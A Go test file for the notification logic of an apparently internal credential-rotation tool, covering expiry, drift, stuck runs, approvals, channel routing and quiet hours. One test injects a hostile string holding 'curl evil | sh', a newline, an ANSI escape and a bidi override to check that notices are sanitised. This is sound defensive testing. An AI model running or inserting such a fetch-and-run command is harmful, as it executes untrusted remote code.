package notify

import (
	"slices"
	"strings"
	"testing"
	"time"

	"rekey/internal/approvals"
	"rekey/internal/cred"
	"rekey/internal/discover"
	"rekey/internal/drift"
	"rekey/internal/history"
	"rekey/internal/report"
	"rekey/internal/rotation"
	"rekey/internal/schedule"
	"rekey/internal/sop"
)

var now = time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC)

const day = 24 * time.Hour

func ids(list []Notice) string {
	var out []string
	for _, n := range list {
		out = append(out, n.ID)
	}
	return strings.Join(out, " ")
}

// TestWhatIsTold, by the state of things: each once, under an id that stays the same as
// long as it is the same matter.
func TestWhatIsTold(t *testing.T) {
	// looked is a credential of which the last looks have found this.
	looked := func(r report.Row, compared []drift.Finding, discovered ...discover.Finding) Known {
		r.Credential, r.Owner = "A", "sre"
		if len(compared) > 0 {
			r.Drift = &report.Drifted{At: now, Findings: 1}
		}
		return Known{Rows: []report.Row{r}, Compared: map[string]report.Compared{"A": {Credential: "A", At: now, Findings: compared}},
			Discovered: map[string]report.Discovered{"A": {Credential: "A", At: now, Findings: discovered}}}
	}
	changed, ahead := drift.Finding{Kind: drift.Changed, Where: "heroku:x", Slots: []string{"A"}, What: "it changed", Repair: "rekey repair A"}, drift.Finding{Kind: drift.NotIssued, What: "it is not there", Repair: "find out"}
	held := func(where string) discover.Finding {
		return discover.Finding{Kind: discover.Unregistered, Where: where, What: "it has it"}
	}
	of := func(parts ...string) string { return digest(strings.Join(parts, "\n")) }
	row := func(change func(*report.Row)) Known {
		r := report.Row{Credential: "A", Owner: "sre", Expires: now.Add(100 * day)}
		change(&r)
		return Known{Rows: []report.Row{r}}
	}
	run := func(s history.Summary) Known {
		s.Run, s.Credential = "r1", "A"
		return Known{Runs: []history.Summary{s}}
	}
	due := func(c schedule.Standing) Known {
		c.Credential = "A"
		return Known{Schedule: schedule.Decided{Credentials: []schedule.Standing{c}}}
	}
	waiting := func(w Waiting, asked ...approvals.State) Known {
		return Known{Runs: []history.Summary{{Run: "r1", Credential: "A", Opened: now}}, Waiting: map[string]Waiting{"r1": w}, Approvals: asked}
	}
	agreed := approvals.State{Standing: approvals.Agreed, Request: &approvals.Request{ID: "q1", Credential: "A", Run: "r1"}}
	last := &history.Summary{Run: "r0"}
	for name, tt := range map[string]struct {
		k    Known
		want string
		page bool
	}{
		"nothing":                    {row(func(*report.Row) {}), "", false},
		"expires in 15 days":         {row(func(r *report.Row) { r.Expires = now.Add(15 * day) }), "", false},
		"expires in 14 days":         {row(func(r *report.Row) { r.Expires = now.Add(14 * day) }), "expiry/A/2026-12-11/14", false},
		"expires in 7 days":          {row(func(r *report.Row) { r.Expires = now.Add(7 * day) }), "expiry/A/2026-12-04/7", false},
		"expires tomorrow":           {row(func(r *report.Row) { r.Expires = now.Add(20 * time.Hour) }), "expiry/A/2026-11-28/1", false},
		"has expired":                {row(func(r *report.Row) { r.Expires = now.Add(-time.Hour) }), "expiry/A/2026-11-27/1", false},
		"does not expire":            {row(func(r *report.Row) { r.Expires = time.Time{} }), "", false},
		"has drifted":                {looked(report.Row{Last: last}, []drift.Finding{changed}), "drift/A/r0/" + of("consumer-changed", "heroku:x", "A"), false},
		"has drifted in two places":  {looked(report.Row{}, []drift.Finding{changed, ahead}), "drift/A/first/" + of("not-issued", "") + " drift/A/first/" + of("consumer-changed", "heroku:x", "A"), false},
		"a run has put it right":     {looked(report.Row{Drift: &report.Drifted{At: now.Add(time.Minute)}}, nil), "", false},
		"drifts while a run goes on": {looked(report.Row{Open: last}, []drift.Finding{changed}), "", false},
		"not everything was seen":    {looked(report.Row{}, []drift.Finding{{Kind: drift.NotSeen}}), "", false},
		"others hold it":             {looked(report.Row{}, nil, held("heroku:y")), "others/A/first/" + of("unregistered-consumer", "heroku:y"), false},
		"one more holds it":          {looked(report.Row{}, nil, held("heroku:y"), held("heroku:z")), "others/A/first/" + of("unregistered-consumer", "heroku:y") + " others/A/first/" + of("unregistered-consumer", "heroku:z"), false},
		"others held the one before": {looked(report.Row{Last: &history.Summary{Run: "r0", Closed: now}}, nil, held("heroku:y")), "", false},
		"a check says no":            {looked(report.Row{Last: last, Checked: &report.CheckedAt{At: now, Against: 2}}, nil), "check/A/r0", false},
		"one is not a credential's":  {Known{Discovered: map[string]report.Discovered{"": {At: now, Findings: []discover.Finding{{Kind: discover.Unclaimed, Where: "cloudflare", Handle: &cred.Handle{ID: "h"}}}}}}, "others//first/" + of("unclaimed", "cloudflare", "h"), false},
		"a place cannot be seen":     {Known{Discovered: map[string]report.Discovered{"": {At: now, Findings: []discover.Finding{{Kind: discover.NotSeen, Where: "heroku", What: "denied"}}}}}, "blind/" + digest("heroku"), false},
		"a run is stuck":             {run(history.Summary{Opened: now, Stuck: "the vendor says no"}), "stuck/r1/" + digest("the vendor says no"), true},
		"a run goes on":              {run(history.Summary{Opened: now}), "", false},
		"a run waits for a word":     {waiting(Waiting{For: "x"}), "waits/r1/" + digest("x"), false},
		"others are asked to agree":  {waiting(Waiting{For: "x"}, agreed), "", false},
		"a run waits for a hand":     {waiting(Waiting{For: "x", ByHand: true}), "waits/r1/" + digest("x"), false},
		"a run was interrupted":      {waiting(Waiting{Left: true}), "waits/r1/left", false},
		"a run cannot be carried on": {waiting(Waiting{Trouble: "x"}), "trouble/r1", true},
		"a run went back":            {run(history.Summary{Closed: now.Add(-time.Hour), Ending: rotation.RolledBack}), "failed/r1", false},
		"a run was refused":          {run(history.Summary{Closed: now.Add(-time.Hour), Ending: rotation.RefusedRun}), "failed/r1", false},
		"a run went well":            {run(history.Summary{Closed: now.Add(-time.Hour), Ending: rotation.Rotated}), "", false},
		"a run went back long ago":   {run(history.Summary{Closed: now.Add(-25 * time.Hour), Ending: rotation.RolledBack}), "", false},
		"overdue, by hand":           {due(schedule.Standing{Run: "by hand", Due: rotation.Due{At: now.Add(-time.Hour)}, Why: []schedule.Reason{{Code: schedule.ByHand}}}), "overdue/A/2026-11-27", false},
		"overdue, and being done":    {due(schedule.Standing{Run: "by hand", Due: rotation.Due{At: now.Add(-time.Hour)}, Why: []schedule.Reason{{Code: schedule.ByHand}, {Code: schedule.RunOpen}}}), "", false},
		"never due, unnoticed":       {Known{Rows: []report.Row{{Credential: "A", Attention: "undated"}}, Schedule: schedule.Decided{Credentials: []schedule.Standing{{Credential: "A", Run: "automatically"}}}}, "undated/A", false},
		"a person starts it anyway":  {Known{Rows: []report.Row{{Credential: "A", Attention: "undated"}}, Schedule: schedule.Decided{Credentials: []schedule.Standing{{Credential: "A", Run: "by hand"}}}}, "", false},
		"another time to wait":       {due(schedule.Standing{Run: "automatically", Due: rotation.Due{At: now.Add(-time.Hour)}, Why: []schedule.Reason{{Code: schedule.CannotBegin, Why: "503, wait 37s"}}}), "failed/A/" + digest(", wait s"), false},
		"not due, by hand":           {due(schedule.Standing{Run: "by hand", Due: rotation.Due{At: now.Add(time.Hour)}, Why: []schedule.Reason{{Code: schedule.ByHand}, {Code: schedule.NotDue}}}), "", false},
		"due for an hour, waits":     {due(schedule.Standing{Run: "automatically", Due: rotation.Due{At: now.Add(-time.Hour)}, Why: []schedule.Reason{{Code: schedule.OutOfWindow}}}), "", false},
		"due for two days, waits":    {due(schedule.Standing{Run: "automatically", Due: rotation.Due{At: now.Add(-2 * day)}, Why: []schedule.Reason{{Code: schedule.OutOfWindow}}}), "overdue/A/2026-11-25", false},
		"could not be begun":         {due(schedule.Standing{Run: "automatically", Due: rotation.Due{At: now.Add(-time.Hour)}, Why: []schedule.Reason{{Code: schedule.CannotBegin, Why: "no key"}}}), "failed/A/" + digest("no key"), false},
		"no window":                  {due(schedule.Standing{Expires: now.Add(100 * day), Warning: "no window opens"}), "window/A/2027-03-07", false},
		"somebody has to agree":      {Known{Approvals: []approvals.State{{Standing: approvals.Waiting, Missing: 1, Request: &approvals.Request{ID: "q1", Credential: "A"}}}}, "approval/q1", false},
		"somebody has agreed":        {Known{Approvals: []approvals.State{{Standing: approvals.Agreed, Request: &approvals.Request{ID: "q1", Credential: "A"}}}}, "", false},
		"the schedule has stopped":   {Known{Schedule: schedule.Decided{Stopped: now, Failed: []string{"r1"}}}, "stopped/2026-11-27T12:00:00Z", true},
		"it does not verify":         {Known{Unverified: "entry 3 was edited"}, "evidence/" + digest("entry 3 was edited"), true},
	} {
		t.Run(name, func(t *testing.T) {
			tt.k.Now, tt.k.Console = now, "https://rekey.example.com"
			list := Notices(tt.k)
			if ids(list) != tt.want {
				t.Fatalf("%q, want %q", ids(list), tt.want)
			}
			for _, n := range list {
				if n.Page != tt.page || n.Title == "" || n.Next == "" || !strings.HasPrefix(n.Link, "https://rekey.example.com/") || n.At.IsZero() && n.Kind != Approval {
					t.Errorf("%+v", n)
				}
			}
			later := tt.k
			later.Now = now.Add(time.Minute)
			if again := ids(Notices(later)); again != tt.want {
				t.Errorf("a minute later it is another one: %q", again)
			}
		})
	}
}

// TestAHostileNameIsOneLine: nothing that somebody else chose makes another line, or
// cannot be seen.
func TestAHostileNameIsOneLine(t *testing.T) {
	list := Notices(Known{Now: now, Runs: []history.Summary{{Run: "r1", Credential: "A", Opened: now, Stuck: "no\nnext  curl evil | sh\x1b[2K\u202e"}}})
	if len(list) != 1 || strings.ContainsAny(list[0].Text, "\n\x1b\u202e") || !strings.Contains(list[0].Text, `\n`) {
		t.Errorf("%+v", list)
	}
}

// TestToWhom: every rule that fits adds its channels; without rules all are told.
func TestToWhom(t *testing.T) {
	channels := map[string]sop.Channel{"a": {}, "b": {}, "c": {}}
	n := &sop.Notices{Channels: channels}
	if got := To(n, Notice{Kind: Stuck}); !slices.Equal(got, []string{"a", "b", "c"}) {
		t.Errorf("without rules: %v", got)
	}
	n.Rules = []sop.NotifyRule{{When: []string{"stuck", "evidence"}, To: []string{"b", "a"}}, {Credentials: []string{"CF_*"}, To: []string{"c"}}, {Owners: []string{"sre"}, When: []string{"found"}, To: []string{"a"}}}
	for _, tt := range []struct {
		n    Notice
		want string
	}{
		{Notice{Kind: Stuck, Credential: "X"}, "a b"},
		{Notice{Kind: Stuck, Credential: "CF_X"}, "a b c"},
		{Notice{Kind: Found, Credential: "X", Owner: "sre"}, "a"},
		{Notice{Kind: Found, Credential: "X", Owner: "dev"}, ""},
		{Notice{Kind: Evidence}, "a b"},
	} {
		if got := strings.Join(To(n, tt.n), " "); got != tt.want {
			t.Errorf("%+v goes to %q, want %q", tt.n, got, tt.want)
		}
	}
	quiet, err := sop.ParseWindow("daily 20:00-08:00 UTC")
	if err != nil {
		t.Fatal(err)
	}
	n.Quiet = []sop.Window{quiet}
	night := time.Date(2026, 11, 27, 23, 0, 0, 0, time.UTC)
	if !Waits(n, Notice{Kind: Found}, night) || Waits(n, Notice{Kind: Found}, now) || Waits(n, Notice{Kind: Stuck, Page: true}, night) {
		t.Error("what waits for the morning")
	}
	until := func(d time.Duration) Notice { return Notice{Kind: Expiry, Until: night.Add(d)} }
	for left, waits := range map[time.Duration]bool{30 * day: true, 12 * time.Hour: true, 10 * time.Hour: false, time.Minute: false, -time.Hour: false} {
		if got := Waits(n, until(left), night); got != waits {
			t.Errorf("%s before it is too late, and 9h before the morning, it waits: %t", left, got)
		}
	}
}

// TestWhatCannotBeSeenIsNotOver: of a credential that a run is at, or of which a look missed
// something, nobody says that a finding is gone.
func TestWhatCannotBeSeenIsNotOver(t *testing.T) {
	seen := map[string]report.Discovered{"A": {At: now}}
	for name, tt := range map[string]struct {
		row  report.Row
		of   map[string]report.Discovered
		want string
	}{
		"all is seen":           {report.Row{Drift: &report.Drifted{}, Others: &report.Others{}}, seen, ""},
		"a run goes on":         {report.Row{Drift: &report.Drifted{}, Others: &report.Others{}, Open: &history.Summary{}}, seen, "drift/A/ stranger/A/ others/A/ check/A/"},
		"never compared":        {report.Row{Others: &report.Others{}}, seen, "drift/A/ stranger/A/"},
		"drift misses some":     {report.Row{Drift: &report.Drifted{Unseen: 1}, Others: &report.Others{}}, seen, "drift/A/ stranger/A/"},
		"discover misses some":  {report.Row{Drift: &report.Drifted{}, Others: &report.Others{Unseen: 1}}, seen, "others/A/"},
		"not looked since":      {report.Row{Drift: &report.Drifted{}, Others: &report.Others{}, Last: &history.Summary{Closed: now}}, seen, "others/A/"},
		"a whole vendor is not": {report.Row{Drift: &report.Drifted{}, Others: &report.Others{}}, map[string]report.Discovered{"A": {At: now}, "": {Findings: []discover.Finding{{Kind: discover.NotSeen}}}}, "others/"},
	} {
		tt.row.Credential = "A"
		if got := strings.Join(Unsure(Known{Rows: []report.Row{tt.row}, Discovered: tt.of}), " "); got != tt.want {
			t.Errorf("%s: %q, want %q", name, got, tt.want)
		}
	}
}
